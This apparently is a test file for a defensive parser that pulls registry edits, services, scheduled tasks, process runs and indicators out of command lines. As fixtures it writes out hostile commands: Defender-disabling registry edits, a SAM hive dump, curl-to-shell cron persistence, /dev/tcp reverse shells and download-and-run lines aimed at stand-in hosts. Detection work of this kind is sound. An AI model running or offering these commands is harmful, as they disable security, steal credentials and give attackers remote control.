import { commandFacts, programRuns } from './facts';

const strip = <T extends object>(items: readonly T[]) =>
  items.map((item) => Object.fromEntries(Object.entries(item).filter(([key]) => !/invocation|Word$/.test(key))));

describe('commandFacts: registry', () => {
  it('reads reg add through a cmd /c wrapper, with the stated and the effective type', () => {
    const facts = commandFacts(
      'cmd /C "reg add \\"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\" /v DisableAntiSpyware /t REG_DWORD /d 1 /f"',
    );
    expect(strip(facts.registry)).toEqual([
      {
        tool: 'reg',
        action: 'set',
        key: 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender',
        valueName: 'DisableAntiSpyware',
        data: '1',
        statedType: 'REG_DWORD',
        type: 'REG_DWORD',
      },
    ]);
  });

  it('gives reg add without /t the REG_SZ reg.exe writes, and Set-ItemProperty no type unless stated', () => {
    expect(commandFacts('reg add HKCU\\Environment /v UserInitMprLogonScript /d 4').registry[0]).toMatchObject({
      data: '4',
      type: 'REG_SZ',
    });
    expect(commandFacts('reg add HKCU\\Environment /v x /d 4').registry[0]?.statedType).toBeUndefined();
    const set = commandFacts('Set-ItemProperty -Path "HKLM:\\SYSTEM\\CurrentControlSet\\Services\\WinDefend" -Name Start -Value 4')
      .registry[0];
    expect(set).toMatchObject({
      tool: 'powershell',
      action: 'set',
      key: 'HKLM:\\SYSTEM\\CurrentControlSet\\Services\\WinDefend',
      valueName: 'Start',
      data: '4',
    });
    expect(set?.type).toBeUndefined();
    expect(commandFacts('New-ItemProperty -Path HKCU:\\Software\\X -Name a -Value 1 -PropertyType DWord').registry[0]).toMatchObject({
      statedType: 'REG_DWORD',
      type: 'REG_DWORD',
    });
  });

  it('reads an unquoted key with a space up to the first switch, deletions and the default value', () => {
    expect(
      commandFacts('REG ADD HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server /v fDenyTSConnections /t REG_DWORD /d 0 /f')
        .registry[0]?.key,
    ).toBe('HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server');
    expect(
      strip(commandFacts('reg delete "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v "Windows Defender" /f').registry),
    ).toEqual([
      { tool: 'reg', action: 'delete', key: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', valueName: 'Windows Defender' },
    ]);
    expect(
      commandFacts('reg add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /ve /d "cmd.exe" /f').registry[0],
    ).toMatchObject({ valueName: '', data: 'cmd.exe' });
  });

  it('reads the key of reg save, export and copy apart from the file or key that follows it', () => {
    expect(commandFacts('reg save HKLM\\SAM C:\\Windows\\Temp\\sam.save /y').registry[0]).toMatchObject({
      action: 'export',
      key: 'HKLM\\SAM',
    });
    expect(commandFacts('reg export HKCU\\Software\\Example out.reg').registry[0]?.key).toBe('HKCU\\Software\\Example');
    expect(commandFacts('reg copy HKLM\\Software\\A HKLM\\Software\\B /s').registry[0]?.key).toBe('HKLM\\Software\\A');
  });

  it('states no data PowerShell computes at run time, and ignores file-system paths', () => {
    expect(commandFacts('Set-ItemProperty -Path HKCU:\\Software\\X -Name a -Value $payload').registry[0]?.data).toBeUndefined();
    expect(commandFacts('Remove-Item -Path C:\\Temp\\x.txt').registry).toEqual([]);
  });
});

describe('commandFacts: services', () => {
  it('reads sc create with its options, a remote server and the service cmdlets', () => {
    expect(
      strip(commandFacts('sc.exe \\\\host create evil binPath= "C:\\x\\e.exe -k" start= auto DisplayName= "Evil Svc"').services),
    ).toEqual([
      { manager: 'sc', action: 'create', name: 'evil', binaryPath: 'C:\\x\\e.exe -k', displayName: 'Evil Svc', startType: 'auto' },
    ]);
    expect(strip(commandFacts('powershell -c "Stop-Service -Name \\"WinDefend\\" -Force"').services)).toEqual([
      { manager: 'powershell', action: 'stop', name: 'WinDefend' },
    ]);
    expect(strip(commandFacts('New-Service -Name upd -BinaryPathName C:\\ProgramData\\u.exe -StartupType Automatic').services)).toEqual([
      { manager: 'powershell', action: 'create', name: 'upd', binaryPath: 'C:\\ProgramData\\u.exe', startType: 'Automatic' },
    ]);
    expect(commandFacts('Stop-Service -Name WinDefend,Sense').services.map((s) => s.name)).toEqual(['WinDefend', 'Sense']);
  });

  it('reads net stop, systemd units, SysV services and launchd jobs', () => {
    expect(commandFacts('net stop "Security Center" /y').services.map((s) => [s.manager, s.action, s.name])).toEqual([
      ['net', 'stop', 'Security Center'],
    ]);
    expect(commandFacts('sudo systemctl enable --now kworker.service').services.map((s) => [s.manager, s.action, s.name])).toEqual([
      ['systemd', 'enable', 'kworker.service'],
    ]);
    expect(commandFacts('service cron stop').services.map((s) => [s.manager, s.action, s.name])).toEqual([['sysv', 'stop', 'cron']]);
    expect(
      commandFacts('launchctl bootstrap gui/501 ~/Library/LaunchAgents/com.x.plist').services.map((s) => [s.manager, s.action, s.name]),
    ).toEqual([['launchd', 'bootstrap', '~/Library/LaunchAgents/com.x.plist']]);
  });

  it('names no service for a variable', () => {
    expect(commandFacts('Stop-Service -Name $svc').services).toEqual([]);
  });
});

describe('commandFacts: scheduled tasks and cron', () => {
  it('reads schtasks and the ScheduledTask cmdlets', () => {
    expect(
      strip(
        commandFacts('schtasks /create /tn "\\Microsoft\\Up" /tr "powershell -ep bypass -f C:\\a.ps1" /sc minute /mo 5 /ru SYSTEM /f')
          .tasks,
      ),
    ).toEqual([
      {
        manager: 'schtasks',
        action: 'create',
        name: '\\Microsoft\\Up',
        command: 'powershell -ep bypass -f C:\\a.ps1',
        schedule: 'minute /mo 5',
        user: 'SYSTEM',
      },
    ]);
    expect(
      commandFacts('schtasks /Change /TN "Microsoft\\Windows\\Windows Defender\\Windows Defender Cleanup" /Disable').tasks[0],
    ).toMatchObject({
      action: 'change',
      name: 'Microsoft\\Windows\\Windows Defender\\Windows Defender Cleanup',
    });
    expect(strip(commandFacts('Register-ScheduledTask -TaskName "OneDrive Sync" -Action $a -Trigger $t').tasks)).toEqual([
      { manager: 'powershell', action: 'create', name: 'OneDrive Sync' },
    ]);
    expect(commandFacts('New-ScheduledTaskAction -Execute "powershell.exe" -Argument "-w hidden -f C:\\u.ps1"').tasks[0]?.command).toBe(
      'powershell.exe -w hidden -f C:\\u.ps1',
    );
  });

  it('reads the cron lines a command installs', () => {
    expect(strip(commandFacts('(crontab -l 2>/dev/null; echo "*/5 * * * * curl -s http://x.test/a | sh") | crontab -').tasks)).toEqual([
      { manager: 'cron', action: 'install', command: 'curl -s http://x.test/a | sh', schedule: '*/5 * * * *' },
      { manager: 'cron', action: 'install' },
    ]);
    expect(strip(commandFacts('echo "@reboot root /tmp/.x/run" >> /etc/crontab').tasks)).toEqual([
      { manager: 'cron', action: 'install', command: '/tmp/.x/run', schedule: '@reboot', user: 'root' },
    ]);
    expect(commandFacts('echo "* * * * * x" > /tmp/notes.txt').tasks).toEqual([]);
  });
});

describe('programRuns', () => {
  it('lists the programs that run, wrappers and built-ins removed', () => {
    const runs = programRuns('cmd.exe /c start /b curl -o %TEMP%\\a.exe http://203.0.113.5/a.exe & %TEMP%\\a.exe & echo done', {
      windows: true,
    });
    expect(runs.map((r) => [r.image, r.commandLine])).toEqual([
      ['curl.exe', 'curl -o %TEMP%\\a.exe http://203.0.113.5/a.exe'],
      ['a.exe', '%TEMP%\\a.exe'],
    ]);
    expect(programRuns('cd /tmp && sudo wget -q http://x.test/a && ./a', { windows: false }).map((r) => r.image)).toEqual(['wget', 'a']);
  });

  it('runs cmdlets in powershell.exe once', () => {
    expect(
      programRuns('Set-MpPreference -DisableRealtimeMonitoring $true', { windows: true }).map((r) => [r.image, r.viaPowerShell]),
    ).toEqual([['powershell.exe', true]]);
    expect(
      programRuns('powershell -c "Get-Process | Stop-Process; certutil -urlcache -f http://x.test/a a.exe"', { windows: true }).map(
        (r) => r.image,
      ),
    ).toEqual(['powershell.exe', 'certutil.exe']);
  });
});

describe('programRuns: what the process record holds', () => {
  const runs = (line: string, windows = true) => programRuns(line, { windows }).map((r) => [r.image, r.commandLine]);

  it("reads cmd.exe's start title, for /f source, @ and carets, and an unquoted path with spaces", () => {
    expect(runs('cmd /c start /b "" quill.exe -s')).toEqual([['quill.exe', 'quill.exe -s']]);
    expect(runs("for /f %a in ('finger gate@203.0.113.9') do call %a")).toEqual([['finger.exe', 'finger gate@203.0.113.9']]);
    expect(runs('@pushd %TEMP% & @c^e^r^t^u^t^i^l -decode a^^b "c^d"')).toEqual([['certutil.exe', 'certutil -decode a^b "c^d"']]);
    expect(runs('C:\\Program Files\\Quill DB\\bin\\qsql.exe -U admin')).toEqual([
      ['qsql.exe', 'C:\\Program Files\\Quill DB\\bin\\qsql.exe -U admin'],
    ]);
    // From a %VARIABLE% or a share the path is read whole too.
    expect(runs('%ProgramFiles%\\Quill DB\\qsql.exe -U admin').map(([image]) => image)).toEqual(['qsql.exe']);
    expect(runs('\\\\fs01\\Quill Share\\qsync.exe /s')).toEqual([['qsync.exe', '\\\\fs01\\Quill Share\\qsync.exe /s']]);
  });

  it("leaves PowerShell's assignment and call operator out, and runs no expression", () => {
    expect(runs('$out = & "C:\\ProgramData\\q.exe" /s')).toEqual([['q.exe', '"C:\\ProgramData\\q.exe" /s']]);
    expect(runs('$p = "C:\\ProgramData\\q.exe"; $n = 1')).toEqual([]);
    expect(runs("(New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')")).toEqual([]);
    expect(runs('Get-Process | Where-Object { $_.Path }').map(([image]) => image)).toEqual(['powershell.exe', 'powershell.exe']);
  });

  it('reads POSIX redirects, environment and logged sh -c lines as the shell does', () => {
    expect(runs('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1', false)).toEqual([['bash', 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1']]);
    expect(runs('0<&196;exec 196<>/dev/tcp/203.0.113.5/4444; sh <&196 >&196 2>&196', false)).toEqual([['sh', 'sh <&196 >&196 2>&196']]);
    expect(runs('LANG=C wget -q http://203.0.113.5/x', false)).toEqual([['wget', 'wget -q http://203.0.113.5/x']]);
    expect(runs('if ! type docker; then LANG=C curl -sLk http://203.0.113.5/d.sh | bash; fi', false)).toEqual([
      ['curl', 'curl -sLk http://203.0.113.5/d.sh'],
      ['bash', 'bash'],
    ]);
    // A log that dropped the quotes: the words after -c are the command's arguments.
    expect(runs('/bin/sh -c curl -fsSL http://203.0.113.5/s.sh -o /tmp/s.sh', false)).toEqual([
      ['curl', 'curl -fsSL http://203.0.113.5/s.sh -o /tmp/s.sh'],
    ]);
    expect(runs('/bin/sh -c /tmp/kworkerd 1>/dev/null 2>&1', false)).toEqual([['kworkerd', '/tmp/kworkerd 1>/dev/null 2>&1']]);
    // On a Unix article `/tmp` is a directory, so `;` separates commands.
    expect(runs('cd /tmp && wget -q http://203.0.113.5/x; chmod +x x', false).map(([image]) => image)).toEqual(['wget', 'chmod']);
  });

  it('keeps a wrapper whose switches are the behaviour, with the command it runs', () => {
    expect(runs('nsenter -t 1 -m -u -i -n sh', false)).toEqual([
      ['nsenter', 'nsenter -t 1 -m -u -i -n sh'],
      ['sh', 'sh'],
    ]);
    expect(runs('sudo nohup ./agent', false)).toEqual([['agent', './agent']]);
  });

  it('reads a line a page wrapped before a URL or a switch, after -Command or after an operator, as one command', () => {
    expect(runs('curl -o a.msi\nhttp://203.0.113.5/a && \nexplorer /select,a.msi')).toEqual([
      ['curl.exe', 'curl -o a.msi http://203.0.113.5/a'],
      ['explorer.exe', 'explorer /select,a.msi'],
    ]);
    expect(runs('powershell.exe -Command \n"iwr http://203.0.113.5/a"')).toEqual([
      ['powershell.exe', 'powershell.exe -Command  "iwr http://203.0.113.5/a"'],
    ]);
    expect(runs('whoami /all\nipconfig /all').map(([image]) => image)).toEqual(['whoami.exe', 'ipconfig.exe']);
  });
});

describe('commandFacts: indicators', () => {
  it('lists URLs, hosts and paths, never switches', () => {
    const facts = commandFacts('net use \\\\10.1.1.5\\c$ & scp -i ~/.ssh/k root@203.0.113.9:/tmp/x . & curl -o /tmp/.x http://evil.test/p');
    expect(facts.urls).toEqual(['http://evil.test/p']);
    expect(facts.hosts).toEqual(expect.arrayContaining(['10.1.1.5', '203.0.113.9', 'evil.test']));
    expect(facts.paths).toEqual(expect.arrayContaining(['\\\\10.1.1.5\\c$', '~/.ssh/k', '/tmp/.x']));
    expect(facts.paths).not.toContain('/c');
  });
});
